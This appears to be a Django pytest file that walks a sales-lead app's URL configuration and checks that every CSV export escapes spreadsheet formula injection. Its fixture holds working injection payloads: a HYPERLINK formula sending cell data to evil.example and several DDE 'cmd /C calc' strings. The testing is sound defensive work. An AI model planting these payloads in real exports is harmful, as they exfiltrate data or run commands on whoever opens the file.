"""Every CSV download the site offers (found from the URL conf) neutralises spreadsheet formulas."""

import csv
import io
import re
from datetime import timedelta

import pytest
from django.urls import get_resolver
from django.urls.resolvers import URLPattern, URLResolver
from django.utils import timezone

from handoff import rollup
from handoff.choices import EventKind, HandoffStatus
from handoff.exports import DASHBOARD_TABLES, FEEDBACK_TABLES
from handoff.models import HandoffEvent, HandoffRule
from leadhub.choices import Stage
from leadhub.models import ImportOutcome, ImportRow, LeadImport
from tests.factories import CompanyFactory, LeadFactory
from tests.handoff.factories import HandoffFactory, RejectionReasonFactory

pytestmark = pytest.mark.django_db

# The campaign of the security report, and a value starting with each other character a
# spreadsheet reads as the start of a formula.
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2,"Open")'
PLUS, MINUS, AT, TAB, CR = "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+2"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# What leadhub.csv_export leaves signed on purpose: a signed number or a phone number, with no
# letter for a spreadsheet to call or reach anything with.
PLAIN_NUMBER = re.compile(r"[+-][0-9 ().\-/]*")
PHONE = "+49 30 1234-56"


def csv_routes():
    """(url name, route) of every pattern whose name ends in csv or export, or whose route is a .csv file."""
    return _nested(get_resolver(), "", "")


def _nested(resolver, namespace, route_prefix):
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            inner = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            yield from _nested(entry, inner, route_prefix + str(entry.pattern))
        elif isinstance(entry, URLPattern) and _is_csv(entry.name or "", str(entry.pattern)):
            yield f"{namespace}{entry.name}", route_prefix + str(entry.pattern)


def _is_csv(name, route):
    return name.endswith(("csv", "export")) or route.endswith(".csv")


@pytest.fixture
def hostile_data(sdr, marketer):
    now = timezone.now()
    sdr.first_name, sdr.last_name = AT, ""
    sdr.save()
    rejected_why = RejectionReasonFactory(label=MINUS)
    lead = LeadFactory(
        first_name=HOSTILE,
        last_name=TAB,
        title=PLUS,
        phone=PHONE,
        campaign=HOSTILE,
        stage=Stage.NURTURE,
        company=CompanyFactory(name=CR),
        recycle_count=1,
        nurture_until=now + timedelta(days=20),
    )
    created = now - timedelta(days=2)
    rejected = HandoffFactory(
        lead=lead,
        owner=sdr,
        campaign=HOSTILE,
        created_at=created,
        assigned_at=created,
        due_at=created + timedelta(hours=1),
        first_decision_at=created + timedelta(minutes=30),
        response_minutes=30,
        status=HandoffStatus.REJECTED,
        rejection_reason=rejected_why,
        decided_by=sdr,
    )
    HandoffRule.objects.create(handoff=rejected, rule_id=7, kind="fit", label=PLUS, points=-5)
    HandoffEvent.objects.create(lead=lead, handoff=rejected, kind=EventKind.REJECTED, by=sdr, reason=MINUS)
    HandoffFactory(lead=LeadFactory(campaign=HOSTILE, first_name=CR, title=AT, stage=Stage.MQL), owner=sdr, campaign=HOSTILE)
    rollup.rebuild()
    job = LeadImport.objects.create(
        original_name="x.csv", header=[HOSTILE, AT, "phone", "size"], status="done", created_by=marketer
    )
    # A tab or a carriage return before a number is no plain number: escaped too.
    ImportRow.objects.create(
        job=job, line=2, outcome=ImportOutcome.REJECTED, email="x", message="Bad.", values=[TAB, CR, "\t 42", "\r-1"]
    )
    return {"pk": job.pk}


def urls_to_fetch(kwargs):
    for name, route in csv_routes():
        path = "/" + route.replace("<int:pk>", str(kwargs["pk"]))
        if name.endswith("dashboard-csv"):
            yield from (f"{path}?table={t}" for t in DASHBOARD_TABLES)
        elif name.endswith("feedback-csv"):
            yield from (f"{path}?table={t}" for t in FEEDBACK_TABLES)
        else:
            yield path


def test_the_walk_finds_every_csv_download():
    names = {name for name, _ in csv_routes()}
    assert {
        "leads:export",
        "leads:import-rejected",
        "handoff:queue-csv",
        "handoff:dashboard-csv",
        "handoff:feedback-csv",
    } <= names


def test_every_csv_link_on_the_pages_is_one_the_walk_downloads(client, hostile_data, manager, marketer):
    from html import unescape
    from urllib.parse import parse_qs, urlsplit

    from django.contrib.auth.models import Permission

    LeadImport.objects.filter(pk=hostile_data["pk"]).update(rejected_count=1)
    manager.user_permissions.add(*Permission.objects.filter(codename__in=["add_leadimport", "view_leadimport"]))
    manager.groups.add(*marketer.groups.all())
    client.force_login(manager)

    def key(url):
        parts = urlsplit(unescape(url))
        return parts.path, parse_qs(parts.query).get("table", [""])[0]

    walked = {key(url) for url in urls_to_fetch(hostile_data)}
    linked = set()
    for page in ("/leads/", "/queue/", "/dashboard/", "/feedback/", f"/leads/import/{hostile_data['pk']}/"):
        response = client.get(page)
        assert response.status_code == 200, page
        linked |= {key(href) for href in re.findall(r'href="([^"]*\.csv[^"]*)"', response.content.decode())}
    assert linked <= walked, sorted(linked - walked)
    # Every page offers its downloads: the lead list, the queue, each report table, rejected rows;
    # the dashboard's "Open now" tile is no table and links to the leads instead (its CSV is
    # still served, and walked).
    assert walked - linked == {("/dashboard/export.csv", "open")}


# The downloads that print text from outside (names, titles, companies, campaigns, reason and
# rule labels, an imported file's cells), keyed as urls_to_fetch names them.
WITH_OUTSIDE_TEXT = {
    "/leads/export.csv",
    "/queue/export.csv",
    "rejected",
    "sdr",
    "funnel_campaign",
    "rejections_channel",
    "rejections_campaign",
    "rules",
    "recycled",
}


def _key(url):
    return url.split("?table=")[-1] if "?table=" in url else ("rejected" if "rejected" in url else url)


def test_no_cell_of_any_csv_download_starts_a_formula(client, hostile_data, manager, marketer):
    from django.contrib.auth.models import Permission

    # One person who may download all of them: a manager who also imports.
    manager.user_permissions.add(*Permission.objects.filter(codename__in=["add_leadimport", "view_leadimport"]))
    manager.groups.add(*marketer.groups.all())
    client.force_login(manager)
    escaped, phones = {}, set()
    for url in urls_to_fetch(hostile_data):
        response = client.get(url)
        assert response.status_code == 200, url
        text = (
            b"".join(response.streaming_content).decode("utf-8-sig")
            if response.streaming
            else response.content.decode("utf-8-sig")
        )
        for row in csv.reader(io.StringIO(text)):
            for value in row:
                if value.startswith(FORMULA_START):
                    assert value.startswith(("+", "-")) and PLAIN_NUMBER.fullmatch(value), (url, value)
                if value.startswith("'") and value[1:] in (HOSTILE, PLUS, MINUS, AT, TAB, CR):
                    escaped.setdefault(_key(url), set()).add(value[1:])
                phones.update({_key(url)} if value == PHONE else set())
    # Every hostile value really went through the tables that print outside text, escaped.
    assert set(escaped) >= WITH_OUTSIDE_TEXT, sorted(escaped)
    assert set().union(*escaped.values()) == {HOSTILE, PLUS, MINUS, AT, TAB, CR}
    # A phone number stays as it was typed.
    assert "/leads/export.csv" in phones
